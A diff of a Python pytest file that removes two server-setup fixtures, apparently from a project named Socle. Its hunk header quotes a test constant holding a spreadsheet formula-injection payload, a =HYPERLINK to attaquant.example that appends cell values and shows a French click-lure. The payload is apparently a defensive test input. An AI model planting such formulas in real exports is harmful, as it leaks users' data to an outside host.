@@ -30,17 +30,6 @@ QUESTION = '=HYPERLINK("https://attaquant.example/?fuite="&A2&B2;"Erreur : cliqu
 
 
 @pytest.fixture
-def env(tmp_path: Path, demo_store, embedder) -> Env:  # type: ignore[no-untyped-def]
-    return make_env(tmp_path, demo_store, embedder)
-
-
-@pytest.fixture
-def server(env: Env) -> Iterator[str]:
-    with running_server(env.app) as url:
-        yield url
-
-
-@pytest.fixture
 def umask_022() -> Iterator[None]:
     """The usual umask, whatever the test runner's: files are 0644 unless Socle says otherwise."""
     previous = os.umask(0o022)
